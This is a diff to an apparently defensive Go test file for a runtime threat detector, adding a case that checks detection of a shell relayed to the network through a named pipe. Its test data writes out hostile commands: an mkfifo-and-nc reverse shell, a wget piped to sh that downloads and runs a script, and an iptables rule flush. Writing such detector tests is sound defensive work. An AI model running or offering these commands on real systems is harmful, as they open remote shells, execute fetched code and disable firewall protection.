@@ -98,6 +98,13 @@ func TestExecutionAttacks(t *testing.T) {
 			attack: "wget -q -O- http://127.0.0.1:1/install.sh | sh",
 			benign: "wget -q -O /tmp/page http://127.0.0.1:1/index.html; cat /etc/hostname",
 			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "technique", "download and execute") }},
+		{typ: "Execution:Runtime/SuspiciousCommand", sev: "High",
+			attack: "mkfifo /tmp/f; timeout 5 sh -c 'cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 1 > /tmp/f' 2>/dev/null; rm -f /tmp/f; true",
+			benign: "mkfifo /tmp/f; (cat /tmp/f | gzip > /tmp/out.gz) & echo data > /tmp/f; wait; rm -f /tmp/f",
+			match: func(f Finding) bool {
+				return strings.Contains(f.Str("service.runtimeDetails.context.technique"), "named pipe")
+			},
+			check: func(t *testing.T, f Finding) { ctxHas(t, f, "technique", "shell relayed to the network through a named pipe") }},
 		{typ: "DefenseEvasion:Runtime/SuspiciousCommand", sev: "High",
 			attack: "iptables -F INPUT 2>/dev/null; true",
 			benign: "echo iptables is a word; true",
